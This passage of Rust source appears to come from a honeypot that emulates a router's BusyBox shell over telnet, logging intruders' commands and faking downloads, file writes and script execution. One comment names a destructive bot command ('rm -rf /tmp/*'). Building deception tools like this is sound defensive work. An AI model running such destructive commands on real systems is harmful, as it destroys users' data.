            Some('y') => write!(out, "{:02}", y.rem_euclid(100)),
            Some('m') => write!(out, "{mo:02}"),
            Some('d') => write!(out, "{d:02}"),
            Some('e') => write!(out, "{d:>2}"),
            Some('H') => write!(out, "{h:02}"),
            Some('M') => write!(out, "{mi:02}"),
            Some('S') => write!(out, "{s:02}"),
            Some('s') => write!(out, "{secs}"),
            Some('a') => write!(out, "{wd}"),
            Some('b') => write!(out, "{}", month_name(mo)),
            Some('Z') => write!(out, "UTC"),
            Some('T') => write!(out, "{h:02}:{mi:02}:{s:02}"),
            Some('F') => write!(out, "{y}-{mo:02}-{d:02}"),
            Some('%') => write!(out, "%"),
            Some(o) => write!(out, "%{o}"),
            None => write!(out, "%"),
        };
    }
    out
}

/// Interprets `echo -e` escapes (`\n`, `\t`, `\xHH`, `\0NNN`, `\c`, ...). The flag says
/// whether `\c` asked to stop output (and suppress the trailing newline).
fn echo_escapes(s: &str) -> (Vec<u8>, bool) {
    let mut out = Vec::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            let mut b = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut b).as_bytes());
            continue;
        }
        let byte = match chars.next() {
            Some('n') => b'\n',
            Some('t') => b'\t',
            Some('r') => b'\r',
            Some('a') => 7,
            Some('b') => 8,
            Some('e') => 27,
            Some('f') => 12,
            Some('v') => 11,
            Some('\\') => b'\\',
            Some('c') => return (out, true),
            Some('x') => {
                let mut v: u32 = 0;
                let mut n = 0;
                while n < 2 {
                    match chars.peek().and_then(|d| d.to_digit(16)) {
                        Some(digit) => {
                            v = v * 16 + digit;
                            chars.next();
                            n += 1;
                        }
                        None => break,
                    }
                }
                if n == 0 {
                    out.extend_from_slice(b"\\x");
                    continue;
                }
                v as u8
            }
            Some('0') => {
                let mut v: u32 = 0;
                for _ in 0..3 {
                    match chars.peek().and_then(|d| d.to_digit(8)) {
                        Some(digit) => {
                            v = v * 8 + digit;
                            chars.next();
                        }
                        None => break,
                    }
                }
                (v & 0xff) as u8
            }
            Some(o) => {
                out.push(b'\\');
                let mut b = [0u8; 4];
                out.extend_from_slice(o.encode_utf8(&mut b).as_bytes());
                continue;
            }
            None => b'\\',
        };
        out.push(byte);
    }
    (out, false)
}

/// Shell wildcard match of `*` and `?` (no brackets), iterative so it cannot blow the stack.
fn wildcard(pattern: &str, name: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let n: Vec<char> = name.chars().collect();
    let (mut pi, mut ni) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ni < n.len() {
        match p.get(pi) {
            Some('*') => {
                star = Some((pi, ni));
                pi += 1;
            }
            Some(&c) if c == '?' || Some(&c) == n.get(ni) => {
                pi += 1;
                ni += 1;
            }
            _ => match star {
                Some((sp, sn)) => {
                    pi = sp + 1;
                    ni = sn + 1;
                    star = Some((sp, sn + 1));
                }
                None => return false,
            },
        }
    }
    p.get(pi..)
        .is_some_and(|rest| rest.iter().all(|&c| c == '*'))
}

/// Splits text into lines keeping their `\n`, for `head`, `tail` and `grep`.
fn lines_of(data: &[u8]) -> Vec<&[u8]> {
    data.split_inclusive(|&b| b == b'\n').collect()
}

/// Parses `-n N`, `-nN`, `-N` and `-c N` for `head`/`tail`; returns (count, bytes?, files).
fn count_and_files(args: &[String]) -> (usize, bool, Vec<&str>) {
    let mut count = 10;
    let mut bytes = false;
    let mut files = Vec::new();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        if a == "-n" || a == "-c" {
            bytes = a == "-c";
            count = it
                .next()
                .and_then(|n| n.trim_start_matches(['-', '+']).parse().ok())
                .unwrap_or(count);
        } else if let Some(n) = a.strip_prefix("-n").or_else(|| a.strip_prefix('-')) {
            count = n.parse().unwrap_or(count);
        } else {
            files.push(a.as_str());
        }
    }
    (count, bytes, files)
}

/// Is this a dotted IPv4 address (as opposed to a host name needing DNS)?
fn is_ipv4(host: &str) -> bool {
    let parts: Vec<&str> = host.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
}

/// Splits a URL into (host, port) for the download tools' messages.
fn parse_url(url: &str) -> (String, u16) {
    let (rest, default_port) = if let Some(r) = url.strip_prefix("https://") {
        (r, 443)
    } else if let Some(r) = url.strip_prefix("ftp://") {
        (r, 21)
    } else {
        (url.strip_prefix("http://").unwrap_or(url), 80)
    };
    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
    let hostport = authority.rsplit_once('@').map_or(authority, |(_, h)| h);
    match hostport.rsplit_once(':') {
        Some((h, p)) => (h.to_string(), p.parse().unwrap_or(default_port)),
        None => (hostport.to_string(), default_port),
    }
}

/// Keeps user names safe to use as a path component and short.
fn sanitize_user(user: &str) -> String {
    let cleaned: String = user
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
        .take(32)
        .collect();
    if cleaned.is_empty() || cleaned.chars().all(|c| c == '.') {
        "user".to_string()
    } else {
        cleaned
    }
}

/// Turns `\n` into `\r\n` (as a telnet pty with ONLCR does) and caps the result.
fn to_crlf(data: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(data.len() + data.len() / 8);
    let mut prev = 0u8;
    for &b in data {
        if b == b'\n' && prev != b'\r' {
            out.push(b'\r');
        }
        out.push(b);
        prev = b;
    }
    if out.len() > MAX_OUTPUT {
        out.truncate(MAX_OUTPUT - 2);
        if out.last() == Some(&b'\r') {
            out.pop();
        }
        out.extend_from_slice(b"\r\n");
    }
    out
}

/// Lexes one simple command into words and redirections, removing quotes and expanding
/// `$VAR`, with the total size bounded by [`MAX_EXPANDED`].
struct Lexer<'a> {
    shell: &'a Shell,
    words: Vec<String>,
    /// Per word: did it contain an unquoted `*` or `?` (so it is a glob pattern)?
    globs: Vec<bool>,
    redirs: Vec<Redir>,
    cur: String,
    in_word: bool,
    quoted: bool,
    glob: bool,
    pending: Option<(u8, RedirOp)>,
    total: usize,
}

impl<'a> Lexer<'a> {
    fn new(shell: &'a Shell) -> Self {
        Self {
            shell,
            words: Vec::new(),
            globs: Vec::new(),
            redirs: Vec::new(),
            cur: String::new(),
            in_word: false,
            quoted: false,
            glob: false,
            pending: None,
            total: 0,
        }
    }

    fn push(&mut self, c: char) {
        self.in_word = true;
        if self.total < MAX_EXPANDED {
            self.total += c.len_utf8();
            self.cur.push(c);
        }
    }

    fn push_str(&mut self, s: &str) {
        for c in s.chars() {
            self.push(c);
        }
    }

    fn finish(&mut self) {
        if self.in_word {
            let word = std::mem::take(&mut self.cur);
            match self.pending.take() {
                Some((fd, op)) => self.redirs.push(Redir {
                    fd,
                    op,
                    target: word,
                }),
                None => {
                    self.words.push(word);
                    self.globs.push(self.glob);
                }
            }
        }
        self.glob = false;
        self.in_word = false;
        self.quoted = false;
    }

    fn expand(&mut self, chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
        self.in_word = true;
        let name: String = match chars.peek().copied() {
            Some('{') => {
                chars.next();
                chars.by_ref().take_while(|&c| c != '}').take(64).collect()
            }
            Some(c) if c == '?' || c == '$' || c == '#' || c.is_ascii_digit() => {
                chars.next();
                c.to_string()
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                let mut name = String::new();
                while let Some(&c) = chars.peek() {
                    if !(c.is_ascii_alphanumeric() || c == '_') || name.len() >= 64 {
                        break;
                    }
                    name.push(c);
                    chars.next();
                }
                name
            }
            _ => {
                self.push('$');
                return;
            }
        };
        let value = self.shell.var(&name);
        self.push_str(&value);
    }

    fn lex(mut self, text: &str) -> (Vec<String>, Vec<bool>, Vec<Redir>) {
        let mut chars = text.chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                ' ' | '\t' | '\r' | '\n' => self.finish(),
                '\'' => {
                    self.in_word = true;
                    self.quoted = true;
                    for d in chars.by_ref().take_while(|&d| d != '\'') {
                        self.push(d);
                    }
                }
                '"' => {
                    self.in_word = true;
                    self.quoted = true;
                    while let Some(d) = chars.next() {
                        match d {
                            '"' => break,
                            '\\' => match chars.peek().copied() {
                                Some(e @ ('"' | '\\' | '$' | '`')) => {
                                    chars.next();
                                    self.push(e);
                                }
                                Some('\n') => {
                                    chars.next();
                                }
                                _ => self.push('\\'),
                            },
                            '$' => self.expand(&mut chars),
                            _ => self.push(d),
                        }
                    }
                }
                '\\' => {
                    self.in_word = true;
                    self.quoted = true;
                    if let Some(d) = chars.next() {
                        self.push(d);
                    }
                }
                '$' => self.expand(&mut chars),
                '>' | '<' => {
                    let fd = match self.cur.as_str() {
                        "0" | "1" | "2"
                            if self.in_word && !self.quoted && self.pending.is_none() =>
                        {
                            let fd = self.cur.bytes().next().map_or(1, |b| b - b'0');
                            self.cur.clear();
                            self.in_word = false;
                            Some(fd)
                        }
                        _ => {
                            self.finish();
                            None
                        }
                    };
                    let op = if c == '<' {
                        RedirOp::In
                    } else {
                        match chars.peek().copied() {
                            Some('>') => {
                                chars.next();
                                RedirOp::Append
                            }
                            Some('&') => {
                                chars.next();
                                RedirOp::Dup
                            }
                            Some('|') => {
                                chars.next();
                                RedirOp::Out
                            }
                            _ => RedirOp::Out,
                        }
                    };
                    let default_fd = if c == '<' { 0 } else { 1 };
                    self.pending = Some((fd.unwrap_or(default_fd), op));
                }
                '&' => {
                    self.finish();
                    if chars.peek() == Some(&'>') {
                        chars.next();
                        let op = if chars.peek() == Some(&'>') {
                            chars.next();
                            RedirOp::Append
                        } else {
                            RedirOp::Out
                        };
                        self.pending = Some((3, op));
                    }
                }
                _ => {
                    self.glob |= c == '*' || c == '?';
                    self.push(c);
                }
            }
        }
        self.finish();
        (self.words, self.globs, self.redirs)
    }
}

/// What a path names, static or created by the session.
enum Found<'a> {
    Static(&'static str, Node),
    Applet(&'static str),
    Home,
    Session(&'a SessionEntry),
}

impl Shell {
    /// Starts a shell for a logged-in user: root gets uid 0, `/root` and a `#` prompt, anyone
    /// else a home under `/home` and a `$` prompt, as the device's `/etc/passwd` implies.
    pub fn new(user: &str) -> Self {
        let name = sanitize_user(user);
        let (uid, home) = match name.as_str() {
            "root" => (0, "/root".to_string()),
            "admin" => (1000, "/home/admin".to_string()),
            "nobody" => (65534, "/".to_string()),
            other => (1001, format!("/home/{other}")),
        };
        Self {
            user: name,
            uid,
            cwd: home.clone(),
            oldpwd: home.clone(),
            home,
            hostname: "router".to_string(),
            status: 0,
            started: now(),
            files: BTreeMap::new(),
            vars: BTreeMap::new(),
            steps_left: MAX_STEPS,
        }
    }

    /// The ash prompt (`PS1='\w \$ '`): `~ # ` at home, else the directory, then `#` or `$`.
    pub fn prompt(&self) -> String {
        let sigil = if self.uid == 0 { '#' } else { '$' };
        format!("{} {sigil} ", self.display_cwd())
    }

    /// Runs one line typed at the prompt and returns what the device would print.
    ///
    /// Every simple command is reported in `commands` even when not executed (after `exit`,
    /// or skipped by `&&`/`||`), since the log should show everything the peer typed.
    pub fn run_line(&mut self, line: &str) -> ShellOutput {
        self.run_input(line.as_bytes())
    }

    /// [`Shell::run_line`] for a line as received, which need not be UTF-8. The commands are
    /// reported with their exact bytes; the answer is worked out from the line read as UTF-8
    /// (an invalid byte reads as U+FFFD), which is all a fake shell needs.
    pub fn run_input(&mut self, line: &[u8]) -> ShellOutput {
        self.steps_left = MAX_STEPS;
        let commands = split_command_bytes(line)
            .into_iter()
            .map(<[u8]>::to_vec)
            .collect();
        let text = String::from_utf8_lossy(line);
        let mut term = Vec::new();
        let exit = self.run_script(&text, 0, &mut term);
        ShellOutput {
            text: to_crlf(&term),
            commands,
            exit,
        }
    }

    fn display_cwd(&self) -> String {
        if self.home != "/" {
            if self.cwd == self.home {
                return "~".to_string();
            }
            if let Some(rest) = self
                .cwd
                .strip_prefix(&self.home)
                .filter(|r| r.starts_with('/'))
            {
                return format!("~{rest}");
            }
        }
        self.cwd.clone()
    }

    /// A shell variable as `$NAME` expands it.
    fn var(&self, name: &str) -> String {
        match name {
            "?" => self.status.to_string(),
            "$" => SHELL_PID.to_string(),
            "#" => "0".to_string(),
            "0" => "-sh".to_string(),
            "HOME" => self.home.clone(),
            "USER" | "LOGNAME" => self.user.clone(),
            "SHELL" => "/bin/sh".to_string(),
            "PATH" => PATH_VAR.to_string(),
            "PWD" => self.cwd.clone(),
            "OLDPWD" => self.oldpwd.clone(),
            "TERM" => "vt102".to_string(),
            "PS1" => "\\w \\$ ".to_string(),
            _ => self.vars.get(name).cloned().unwrap_or_default(),
        }
    }

    fn set_var(&mut self, name: &str, value: &str) {
        if self.vars.len() < MAX_VARS || self.vars.contains_key(name) {
            let value: String = value.chars().take(MAX_VAR_LEN).collect();
            self.vars.insert(name.chars().take(64).collect(), value);
        }
    }

    /// Runs a line or script; returns whether `exit` ran. Output goes to `term`.
    fn run_script(&mut self, text: &str, depth: u8, term: &mut Vec<u8>) -> bool {
        let mut pipeline: Vec<&str> = Vec::new();
        let mut connector = Sep::Seq;
        let pieces = split_pieces(text);
        let count = pieces.len();
        for (i, (cmd, sep)) in pieces.into_iter().enumerate() {
            pipeline.push(cmd);
            if sep == Sep::Pipe && i + 1 < count {
                continue;
            }
            let run = match connector {
                Sep::And => self.status == 0,
                Sep::Or => self.status != 0,
                _ => true,
            };
            if run && self.run_pipeline(&pipeline, depth, term) {
                return true;
            }
            pipeline.clear();
            connector = sep;
        }
        false
    }

    fn run_pipeline(&mut self, cmds: &[&str], depth: u8, term: &mut Vec<u8>) -> bool {
        let mut stdin: Option<Vec<u8>> = None;
        let last = cmds.len().saturating_sub(1);
        for (i, cmd) in cmds.iter().enumerate() {
            if self.steps_left == 0 {
                return false;
            }
            self.steps_left -= 1;
            let res = self.run_simple(cmd, stdin.take(), depth);
            self.status = res.status;
            push_capped(term, &res.err);
            if i == last {
                push_capped(term, &res.out);
            } else {
                stdin = Some(res.out);
            }
            if res.exit {
                return true;
            }
        }
        false
    }

    /// Runs one simple command with its redirections applied.
    fn run_simple(&mut self, text: &str, stdin: Option<Vec<u8>>, depth: u8) -> Res {
        let (words, globs, redirs) = Lexer::new(self).lex(text);
        let mut words = self.expand_globs(words, &globs);
        // Leading NAME=value assignments.
        let assignments = words
            .iter()
            .take_while(|w| {
                w.split_once('=').is_some_and(|(n, _)| {
                    !n.is_empty()
                        && !n.starts_with(|c: char| c.is_ascii_digit())
                        && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                })
            })
            .count();
        let assigned: Vec<String> = words.drain(..assignments).collect();
        if words.is_empty() {
            for a in &assigned {
                if let Some((n, v)) = a.split_once('=') {
                    self.set_var(n, v);
                }
            }
        }

        let mut out_sink = Sink::Stdout;
        let mut err_sink = Sink::Stderr;
        let mut stdin = stdin;
        for r in &redirs {
            match r.op {
                RedirOp::In => match self.read(&self.resolve(&r.target)) {
                    Ok(data) => stdin = Some(data),
                    Err(e) => {
                        return Res::fail(format!("-sh: can't open '{}': {e}\n", r.target), 1);
                    }
                },
                RedirOp::Dup => {
                    let to = match r.target.as_str() {
                        "1" => out_sink.clone(),
                        "2" => err_sink.clone(),
                        "-" => Sink::File("/dev/null".into()),
                        other => Sink::File(self.resolve(other)),
                    };
                    match r.fd {
                        2 => err_sink = to,
                        3 => {
                            err_sink = to.clone();
                            out_sink = to;
                        }
                        _ => out_sink = to,
                    }
                }
                RedirOp::Out | RedirOp::Append => {
                    let path = self.resolve(&r.target);
                    if let Err(e) = self.write(&path, b"", r.op == RedirOp::Append) {
                        return Res::fail(format!("-sh: can't create {}: {e}\n", r.target), 1);
                    }
                    let sink = Sink::File(path);
                    match r.fd {
                        2 => err_sink = sink,
                        3 => {
                            err_sink = sink.clone();
                            out_sink = sink;
                        }
                        0 => {}
                        _ => out_sink = sink,
                    }
                }
            }
        }

        let res = if words.is_empty() {
            Res::default()
        } else {
            self.dispatch(&words, stdin, depth)
        };

        let mut routed = Res {
            status: res.status,
            exit: res.exit,
            ..Res::default()
        };
        for (bytes, sink) in [(res.out, &out_sink), (res.err, &err_sink)] {
            match sink {
                Sink::Stdout => push_capped(&mut routed.out, &bytes),
                Sink::Stderr => push_capped(&mut routed.err, &bytes),
                Sink::File(path) => {
                    if let Err(e) = self.write(path, &bytes, true) {
                        push_capped(
                            &mut routed.err,
                            format!("-sh: can't create {path}: {e}\n").as_bytes(),
                        );
                    }
                }
            }
        }
        routed
    }

    /// Expands unquoted `*`/`?` in the last path component against the fake filesystem, as
    /// ash does (`rm -rf /tmp/*` is a bot favourite); no match leaves the word as typed.
    fn expand_globs(&self, words: Vec<String>, globs: &[bool]) -> Vec<String> {
        let mut out = Vec::with_capacity(words.len());
        for (word, glob) in words.into_iter().zip(globs.iter().copied()) {
            let (prefix, pattern) = match word.rsplit_once('/') {
                Some((p, pat)) => (format!("{p}/"), pat),
                None => (String::new(), word.as_str()),
            };
            let matches: Vec<String> = if glob && !prefix.contains(['*', '?']) {
                let dir = self.resolve(if prefix.is_empty() { "." } else { &prefix });
                self.children(&dir)
                    .into_iter()
                    .filter(|n| {
                        (pattern.starts_with('.') || !n.starts_with('.')) && wildcard(pattern, n)
                    })
                    .map(|n| format!("{prefix}{n}"))
                    .collect()
            } else {
                Vec::new()
            };
            if matches.is_empty() {
                out.push(word);
            } else {
                out.extend(matches);
            }
            if out.len() >= MAX_WORDS {
                out.truncate(MAX_WORDS);
                break;
            }
        }
        out
    }

    /// Normalizes a path typed by the peer against the working directory and `~`.
    fn resolve(&self, arg: &str) -> String {
        let full = if arg == "~" {
            self.home.clone()
        } else if let Some(rest) = arg.strip_prefix("~/") {
            join(&self.home, rest)
        } else if arg.starts_with('/') {
            arg.to_string()
        } else {
            join(&self.cwd, arg)
        };
        let mut parts: Vec<&str> = Vec::new();
        for part in full.split('/') {
            match part {
                "" | "." => {}
                ".." => {
                    parts.pop();
                }
                p => parts.push(p),
            }
        }
        if parts.is_empty() {
            return "/".to_string();
        }
        let mut path = String::new();
        for p in parts {
            path.push('/');
            path.push_str(p);
        }
        path
    }

    /// Looks a normalized path up without following symlinks.
    fn find(&self, path: &str) -> Option<Found<'_>> {
        if let Some(entry) = self.files.get(path) {
            return Some(Found::Session(entry));
        }
        if let Some(&(_, mode, node)) = FS.iter().find(|(p, _, _)| *p == path) {
            return Some(Found::Static(mode, node));
        }
        if path == self.home {
            return Some(Found::Home);
        }
        let dir = parent(path)?;
        APPLETS
            .iter()
            .find(|(name, d)| *d == dir && *name == basename(path))
            .map(|&(_, d)| Found::Applet(d))
    }

    /// Follows symlinks (a few levels) to the final path.
    fn follow(&self, path: &str) -> String {
        let mut path = path.to_string();
        for _ in 0..8 {
            let target = match self.find(&path) {
                Some(Found::Static(_, Node::Link(t))) => t.to_string(),
                Some(Found::Applet(_)) => "/bin/busybox".to_string(),
                _ => return path,
            };
            let dir = parent(&path).unwrap_or("/").to_string();
            path = if target.starts_with('/') {
                target
            } else {
                self.resolve(&join(&dir, &target))
            };
        }
        path
    }

    fn is_dir(&self, path: &str) -> bool {
        matches!(
            self.find(&self.follow(path)),
            Some(
                Found::Static(_, Node::Dir)
                    | Found::Home
                    | Found::Session(SessionEntry::Dir { .. })
            )
        )
    }

    fn exists(&self, path: &str) -> bool {
        self.find(path).is_some()
    }

    /// Contents of a file, following symlinks; errors use the strerror wording.
    fn read(&self, path: &str) -> Result<Vec<u8>, &'static str> {
        match self.find(&self.follow(path)) {
            None => Err("No such file or directory"),
            Some(Found::Static(_, Node::File(s))) => Ok(s.as_bytes().to_vec()),
            Some(Found::Static(_, Node::Bin(b, _))) => Ok(b.to_vec()),
            Some(Found::Static(_, Node::Dev(..))) => Ok(Vec::new()),
            Some(Found::Session(SessionEntry::File { data, .. })) => Ok(data.clone()),
            Some(_) => Err("Is a directory"),
        }
    }

    fn writable(path: &str) -> bool {
        WRITABLE
            .iter()
            .any(|w| path == *w || path.strip_prefix(w).is_some_and(|r| r.starts_with('/')))
    }

    /// Writes (or with empty `data`, creates) a session file; the rootfs is read-only.
    fn write(&mut self, path: &str, data: &[u8], append: bool) -> Result<(), &'static str> {
        match self.find(path) {
            Some(Found::Static(_, Node::Dev(..))) => return Ok(()),
            Some(
                Found::Static(_, Node::Dir)
                | Found::Home
                | Found::Session(SessionEntry::Dir { .. }),
            ) => {
                return Err("Is a directory");
            }
            _ => {}
        }
        if !parent(path).is_some_and(|p| self.is_dir(p)) {
            return Err("nonexistent directory");
        }
        if !Self::writable(path) {
            return Err("Read-only file system");
        }
        let mtime = now();
        if !self.files.contains_key(path) {
            if self.files.len() >= MAX_FILES {
                return Err("No space left on device");
            }
            let initial = match self.read(path) {
                Ok(d) if append => d,
                _ => Vec::new(),
            };
            self.files.insert(
                path.to_string(),
                SessionEntry::File {
                    data: initial,
                    exec: false,
                    mtime,
                },
            );
        }
        if let Some(SessionEntry::File {
            data: existing,
            mtime: m,
            ..
        }) = self.files.get_mut(path)
        {
            if !append {
                existing.clear();
            }
            let room = MAX_FILE_SIZE.saturating_sub(existing.len());
            existing.extend_from_slice(data.get(..room.min(data.len())).unwrap_or_default());
            *m = mtime;
        }
        Ok(())
    }

    /// Names in a directory (without `.` and `..`), sorted.
    fn children(&self, dir: &str) -> Vec<String> {
        let mut names = BTreeSet::new();
        for (p, _, _) in FS {
            if parent(p) == Some(dir) {
                names.insert(basename(p).to_string());
            }
        }
        for (name, d) in APPLETS {
            if *d == dir {
                names.insert((*name).to_string());
            }
        }
        for p in self.files.keys() {
            if parent(p) == Some(dir) {
                names.insert(basename(p).to_string());
            }
        }
        if parent(&self.home) == Some(dir) {
            names.insert(basename(&self.home).to_string());
        }
        names.into_iter().collect()
    }

    /// Is `name` a command found in `$PATH`? Returns its full path.
    fn which(&self, name: &str) -> Option<String> {
        if name.is_empty() || name.contains('/') {
            return None;
        }
        PATH_DIRS.iter().map(|d| join(d, name)).find(|p| {
            matches!(
                self.find(p),
                Some(
                    Found::Applet(_)
                        | Found::Static(_, Node::Bin(..))
                        | Found::Session(SessionEntry::File { exec: true, .. })
                )
            )
        })
    }

    /// Finds what to run for the command word and runs it.
    fn dispatch(&mut self, words: &[String], stdin: Option<Vec<u8>>, depth: u8) -> Res {
        let Some((first, args)) = words.split_first() else {
            return Res::default();
        };
        if first.contains('/') {
            let path = self.resolve(first);
            let real = self.follow(&path);
            return match self.find(&real) {
                None => Res::fail(format!("-sh: {first}: not found\n"), 127),
                Some(Found::Session(SessionEntry::File {
                    exec: true, data, ..
                })) => {
                    let data = data.clone();
                    self.exec_data(&data, depth)
                }
                Some(Found::Static(_, Node::Bin(..))) => {
                    self.run_named(basename(&path), args, stdin, depth)
                }
                Some(Found::Static(_, Node::File(s))) if s.starts_with("#!") => Res::default(),
                _ => Res::fail(format!("-sh: {first}: Permission denied\n"), 126),
            };
        }
        self.run_named(first, args, stdin, depth)
    }

    /// Runs a session file that was made executable: scripts run, binaries "run" silently.
    fn exec_data(&mut self, data: &[u8], depth: u8) -> Res {
        if data.starts_with(b"\x7fELF") || depth >= MAX_DEPTH {
            return Res::default();
        }
        let script = String::from_utf8_lossy(data).into_owned();
        let mut term = Vec::new();
        // `exit` in a script ends only that script.
        self.run_script(&script, depth + 1, &mut term);
        Res {
            out: term,
            status: self.status,
            ..Res::default()
        }
    }

    /// Builtins, router-CLI words and applets by name.
    fn run_named(&mut self, name: &str, args: &[String], stdin: Option<Vec<u8>>, depth: u8) -> Res {
        match name {
            "exit" | "logout" | "quit" => {
                return Res {
                    exit: true,
                    ..Res::default()
                };
            }
            "cd" | "chdir" => return self.cd(args),
            "echo" => return Self::echo(args),
            "pwd" => return Res::ok(format!("{}\n", self.cwd)),
            "help" => return Res::ok(ASH_HELP),
            "true" | ":" | "enable" | "system" | "shell" | "linuxshell" | "set" | "unset"
            | "alias" | "history" | "ulimit" | "umask" | "trap" | "wait" | "hash" | "source"
            | "." => {
                return Res::default();
            }
            "false" => return Res::fail("", 1),
            "export" | "readonly" | "local" => {
                for a in args {
                    if let Some((n, v)) = a.split_once('=') {
                        self.set_var(n, v);
                    }
                }
                return Res::default();
            }
            "kill" => return Res::default(),
            _ => {}
        }
        if self.which(name).is_none() {
            return Res::fail(format!("-sh: {name}: not found\n"), 127);
        }
        self.applet(name, args, stdin, depth)
    }

    /// The programs of the device (mostly BusyBox applets).
    fn applet(&mut self, name: &str, args: &[String], stdin: Option<Vec<u8>>, depth: u8) -> Res {
        let arg = |i: usize| args.get(i).map(String::as_str);
        match name {
            "busybox" => self.busybox(args, stdin, depth),
            "sh" | "ash" => self.sh(args, depth),
            "uname" => self.uname(args),
            "cat" => self.cat(args, stdin),
            "ls" => self.ls(args),
            "id" => Res::ok(self.id()),
            "whoami" => Res::ok(format!("{}\n", self.user)),
            "hostname" => {
                if let Some(h) = arg(0).filter(|h| !h.starts_with('-')) {
                    if self.uid != 0 {
                        return Res::fail("hostname: sethostname: Operation not permitted\n", 1);
                    }
                    self.hostname = h.chars().take(64).collect();
                    return Res::default();
                }
                Res::ok(format!("{}\n", self.hostname))
            }
            "ps" => Res::ok(self.ps()),
            "free" => Res::ok(FREE),
            "df" => Res::ok(DF),
            "ifconfig" => Res::ok(IFCONFIG),
            "route" => Res::ok(ROUTE),
            "ip" => match arg(0).unwrap_or("") {
                a if "address".starts_with(a) && !a.is_empty() => Res::ok(IP_ADDR),
                a if "route".starts_with(a) && !a.is_empty() => Res::ok(IP_ROUTE),
                a if "link".starts_with(a) && !a.is_empty() => Res::ok(
                    IP_ADDR
                        .lines()
                        .filter(|l| !l.contains("inet "))
                        .fold(String::new(), |s, l| s + l + "\n"),
                ),
                _ => Res::fail(
                    format!(
                        "{BUSYBOX_VERSION} multi-call binary.\n\nUsage: ip [OPTIONS] address|route|link|tunnel|neigh|rule [ARGS]\n"
                    ),
                    1,
                ),
            },
            "netstat" => {
                if args
                    .iter()
                    .any(|a| a.starts_with('-') && (a.contains('a') || a.contains('l')))
                {
                    Res::ok(NETSTAT_SERVERS)
                } else {
                    Res::ok(
                        "Active Internet connections (w/o servers)\nProto Recv-Q Send-Q Local Address           Foreign Address         State       \n",
                    )
                }
            }
            "uptime" => Res::ok(format!("{}\n", self.uptime())),
            "w" => Res::ok(format!(
                "{}\nUSER       TTY      IDLE      TIME            HOST\n{:<10} pts/0    00:00     {}\n",
                self.uptime(),
                self.user,
                format_date_custom(now(), "%b %e %H:%M"),
            )),
            "date" => match arg(0).and_then(|a| a.strip_prefix('+')) {
                Some(fmt) => Res::ok(format!("{}\n", format_date_custom(now(), fmt))),
                None => Res::ok(format!("{}\n", format_date(now()))),
            },
            "nproc" => Res::ok("4\n"),
            "mount" if args.is_empty() => Res::ok(MOUNTS),
            "head" | "tail" => self.head_tail(name == "head", args, stdin),
            "grep" | "egrep" => self.grep(args, stdin),
            "wc" => self.wc(args, stdin),
            "which" => Res::ok(
                args.iter()
                    .filter_map(|a| self.which(a))
                    .fold(String::new(), |s, p| s + &p + "\n"),
            ),
            "env" => Res::ok(format!(
                "USER={u}\nLOGNAME={u}\nHOME={}\nPATH={PATH_VAR}\nSHELL=/bin/sh\nTERM=vt102\nPWD={}\n",
                self.home,
                self.cwd,
                u = self.user
            )),
            "wget" => self.wget(args),
            "curl" => Self::curl(args),
            "tftp" => Self::tftp(args),
            "ftpget" | "ftpput" => Self::ftpget(name, args),
            "chmod" => self.chmod(args),
            "rm" => self.rm(args),
            "mkdir" => self.mkdir(args),
            "touch" => self.touch(args),
            "cp" | "mv" => self.cp_mv(name == "mv", args),
            "killall" => Res::default(),
            "false" => Res::fail("", 1),
            "echo" | "pwd" | "kill" | "true" => self.run_named(name, args, stdin, depth),
            _ => Res::default(),
        }
    }

    fn busybox(&mut self, args: &[String], stdin: Option<Vec<u8>>, depth: u8) -> Res {
        let Some((applet, rest)) = args.split_first() else {
            return Res::ok(Self::busybox_help());
        };
        match applet.as_str() {
            "--list" => {
                return Res::ok(APPLETS.iter().fold(String::new(), |s, (n, _)| s + n + "\n"));
            }
            "--help" => return Res::ok(Self::busybox_help()),
            _ => {}
        }
        let applet = basename(applet);
        if APPLETS.iter().any(|(n, _)| *n == applet) {
            self.applet(applet, rest, stdin, depth)
        } else {
            Res::fail(format!("{applet}: applet not found\n"), 127)
        }
    }

    /// `busybox` with no arguments: the help header and the applet list, wrapped like
    /// BusyBox's own `busybox_main` at 80 columns.
    fn busybox_help() -> String {
        let mut s = format!("{BUSYBOX_VERSION}{BUSYBOX_HELP}");
        let mut col = 0;
        for (name, _) in APPLETS {
            let len = name.len() + 2;
            if col >= 80 - len {
                s.push_str(",\n");
                col = 0;
            }
            if col == 0 {
                col = 8;
                s.push('\t');
            } else {
                s.push_str(", ");
            }
            s.push_str(name);
            col += len;
        }
        s.push_str("\n\n");
        s
    }

    fn sh(&mut self, args: &[String], depth: u8) -> Res {
        if depth >= MAX_DEPTH {
            return Res::default();
        }
        match args.first().map(String::as_str) {
            Some("-c") => {
                let script = args.get(1).cloned().unwrap_or_default();
                let mut term = Vec::new();
                self.run_script(&script, depth + 1, &mut term);
                Res {
                    out: term,
                    status: self.status,
                    ..Res::default()
                }
            }
            Some(file) if !file.starts_with('-') => match self.read(&self.resolve(file)) {
                Ok(data) if !data.starts_with(b"\x7fELF") => {
                    let script = String::from_utf8_lossy(&data).into_owned();
                    let mut term = Vec::new();
                    self.run_script(&script, depth + 1, &mut term);
                    Res {
                        out: term,
                        status: self.status,
                        ..Res::default()
                    }
                }
                Ok(_) => Res::fail(
                    format!("{file}: line 1: syntax error: unexpected \")\"\n"),
                    2,
                ),
                Err(e) => Res::fail(format!("sh: can't open '{file}': {e}\n"), 2),
            },
            _ => Res::default(),
        }
    }

    fn uname(&self, args: &[String]) -> Res {
        let mut flags = String::new();
        for a in args {
            match a.strip_prefix('-') {
                Some(f) if !f.is_empty() => flags.push_str(f),
